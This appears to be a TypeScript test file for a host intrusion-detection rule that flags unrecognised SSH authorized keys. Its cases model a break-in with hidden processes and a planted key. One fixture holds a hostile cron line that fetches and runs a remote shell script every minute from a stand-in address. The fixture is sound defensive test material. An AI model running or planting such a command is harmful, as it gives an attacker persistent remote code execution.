import { DEFAULT_POLICY } from '../default-policy';
import { baselineOf, historyOf } from '../testing/context';
import { cronLine } from '../testing/cron';
import { hiddenProcess } from '../testing/intruder-process';
import { keyWith } from '../testing/persistence';
import { snapshotBefore, snapshotWith } from '../testing/snapshot';
import { ruleTable } from '../testing/table';
import { authorizedKeyUnknown } from './authorized-key-unknown';

const own = keyWith();
const kali = keyWith({ fingerprint: 'SHA256:Vx3qT0strange', comment: 'root@kali', lineNumber: 4 });
const during = '2026-11-24T02:43:00.000Z';
const id = (key: typeof own) => `${key.path}#${key.fingerprint}`;
const baseline = baselineOf(snapshotWith({}), [own.fingerprint]);

ruleTable(authorizedKeyUnknown, {
  passes: {
    'no keys': { facts: { authorizedKeys: [] } },
    'in the baseline': { facts: { authorizedKeys: [own] }, context: { baseline } },
    'allowed by the policy': {
      facts: { authorizedKeys: [kali] },
      context: { policy: { ...DEFAULT_POLICY, trustedKeyFingerprints: [kali.fingerprint] } },
    },
  },
  fails: {
    'first run: to be confirmed': {
      facts: { authorizedKeys: [own] },
      finds: [{ subject: id(own), severity: 'low', says: 'nobody has confirmed it yet' }],
    },
    'not in the baseline': {
      facts: { authorizedKeys: [own, kali] },
      context: { baseline },
      finds: [
        { subject: id(kali), severity: 'high', says: 'not in the baseline', offers: ['ssh.removeAuthorizedKey'] },
      ],
    },
    'the incident: written while a process began to hide': {
      facts: {
        authorizedKeys: [
          { ...own, fileModifiedAt: during },
          { ...kali, fileModifiedAt: during },
          { ...own, path: '/home/ops/.ssh/authorized_keys', user: 'ops' },
        ],
        processes: [hiddenProcess()],
      },
      finds: [
        { subject: id(own), severity: 'low' },
        {
          subject: id(kali),
          severity: 'high',
          says: '“root@kali” can sign in as root; its file was written during',
          shows: 'break-in',
        },
        { subject: `/home/ops/.ssh/authorized_keys#${own.fingerprint}`, severity: 'low' },
      ],
    },
    'two keys that no other file holds: the last line is the newest': {
      facts: {
        authorizedKeys: [
          { ...own, fileModifiedAt: during },
          { ...kali, fileModifiedAt: during },
        ],
        processes: [hiddenProcess()],
      },
      finds: [
        { subject: id(own), severity: 'medium', says: 'during the break-in' },
        { subject: id(kali), severity: 'high' },
      ],
    },
    'written when the cron line was': {
      facts: {
        authorizedKeys: [{ ...kali, fileModifiedAt: during }],
        cronEntries: [cronLine('* * * * * curl http://198.51.100.23/mac.sh | sh')],
      },
      finds: [{ subject: id(kali), severity: 'high' }],
    },
    'the other traces are gone, but a scan before saw them': {
      facts: { authorizedKeys: [{ ...kali, fileModifiedAt: during }], processes: [] },
      context: historyOf(snapshotBefore(5, { processes: [hiddenProcess()], authorizedKeys: [kali] })),
      finds: [{ subject: id(kali), severity: 'high', says: 'during the break-in' }],
    },
    'added since the last scan': {
      facts: { authorizedKeys: [own, kali] },
      context: historyOf(snapshotBefore(60, { authorizedKeys: [own] })),
      finds: [
        { subject: id(own), severity: 'low' },
        { subject: id(kali), severity: 'high', says: 'since the last scan' },
      ],
    },
    'the key of a known intruder': {
      facts: { authorizedKeys: [{ ...kali, comment: 'hilde@teamtnt.red' }] },
      finds: [{ subject: id(kali), severity: 'critical' }],
    },
    'one day away from the break-in': {
      facts: {
        authorizedKeys: [{ ...kali, fileModifiedAt: '2026-11-23T02:43:00.000Z' }],
        processes: [hiddenProcess()],
      },
      finds: [{ subject: id(kali), severity: 'low' }],
    },
  },
  unknowns: { 'over the Docker API alone': { facts: {}, because: 'authorized keys' } },
});
